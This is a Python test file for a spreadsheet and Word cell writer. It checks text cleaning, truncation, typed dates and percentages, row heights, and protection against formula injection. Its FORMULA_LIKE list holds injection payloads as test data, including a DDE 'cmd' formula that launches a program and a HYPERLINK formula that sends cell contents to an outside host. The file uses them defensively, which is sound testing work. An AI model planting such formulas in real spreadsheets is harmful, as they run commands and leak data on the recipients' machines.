"""The one cell writer: user text stays data, figures stay typed, rows get their height."""

import datetime
from io import BytesIO

import pytest
from docx import Document
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from pilot.spreadsheet import (
    CUT_MARK,
    DATE_FORMAT,
    MAX_ROW_HEIGHT,
    Percent,
    clean_for_word,
    clean_text,
    display_width,
    row_height,
    set_up_sheet,
    set_value,
)
from pilot.testing.factories import stamp


def _cell(value):
    return set_value(WriteOnlyCell(Workbook(write_only=True).create_sheet()), value)


def _round_trip(values) -> list:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    sheet.append([set_value(WriteOnlyCell(sheet), v) for v in values])
    buffer = BytesIO()
    workbook.save(buffer)
    return [c.value for c in load_workbook(buffer).active[1]]


FORMULA_LIKE = [
    '=HYPERLINK("http://x/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_text_that_starts_like_a_formula_is_a_quoted_string(text):
    cell = _cell(text)

    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)


def test_error_codes_typed_by_a_user_stay_text():
    assert _cell("#N/A").data_type == "s"


def test_ordinary_text_carries_no_quote_prefix():
    assert not _cell("推进顺利").quotePrefix


def test_characters_excel_refuses_are_dropped_and_word_breaks_become_newlines():
    assert clean_text("a\x00b\x1bc\x08d") == "abcd"
    assert clean_text("第一行\x0b第二行\x0c第三行") == "第一行\n第二行\n第三行"
    assert clean_text("保留\t制表符\n和换行") == "保留\t制表符\n和换行"


def test_a_text_at_the_limit_is_kept_whole():
    assert clean_text("长" * 32_767) == "长" * 32_767


def test_a_longer_text_is_cut_with_a_visible_mark():
    text = clean_text("长" * 40_000)

    assert len(text) == 32_767
    assert text.endswith(CUT_MARK)


def test_emoji_count_two_units_towards_the_limit():
    text = clean_text("😀" * 20_000)

    assert len(text.encode("utf-16-le")) // 2 <= 32_767
    assert text.endswith(CUT_MARK)


def test_hostile_values_survive_a_save_and_load():
    values = ["=1+1", "x\x00y", "😀", 3, Percent(12.5), datetime.date(2022, 5, 31)]

    assert _round_trip(values) == [
        "=1+1",
        "xy",
        "😀",
        3,
        0.125,
        datetime.datetime(2022, 5, 31),
    ]


def test_percent_is_a_number_with_a_percent_format():
    cell = _cell(Percent(66.7))

    assert (cell.value, cell.number_format) == (pytest.approx(0.667), "0.0%")
    assert _cell(Percent(20, decimals=0)).number_format == "0%"
    assert _cell(Percent(None)).value == "—"


def test_dates_are_real_dates_in_chinese_format():
    cell = _cell(datetime.date(2022, 6, 15))

    assert (cell.value, cell.number_format) == (datetime.date(2022, 6, 15), DATE_FORMAT)


def test_aware_datetimes_are_written_in_local_time(settings):
    cell = _cell(stamp(2022, 6, 15, 9, 30))

    assert cell.value == datetime.datetime(2022, 6, 15, 9, 30)


def test_cjk_characters_count_two_width_units():
    assert display_width("中a１") == 5


def test_row_height_grows_with_wrapped_lines_and_is_capped():
    short = row_height(["短"], [20])
    wrapped = row_height(["长" * 30], [20])  # 60 units in a 19-unit column: 4 lines
    broken = row_height(["一\n二\n三"], [20])

    assert short < broken < wrapped
    assert wrapped == pytest.approx(4 * broken / 3, rel=0.1)
    assert row_height(["长" * 40_000], [20]) == MAX_ROW_HEIGHT


def test_word_text_keeps_newlines_and_tabs_and_opens_in_python_docx():
    text = clean_for_word("a\tb\nc\x0bd\x1be\x00f")

    assert text == "a\tb\nc\nd" + "ef"
    Document().add_paragraph(text)  # python-docx refuses control characters


def test_the_page_header_is_short_and_escapes_field_codes():
    sheet = Workbook(write_only=True).create_sheet()

    set_up_sheet(sheet, [10], header_row=2, page_title="A&B" + "长" * 300)

    text = sheet.HeaderFooter.oddHeader.center.text
    assert text.startswith("A&&B长")
    assert len(text) <= 101
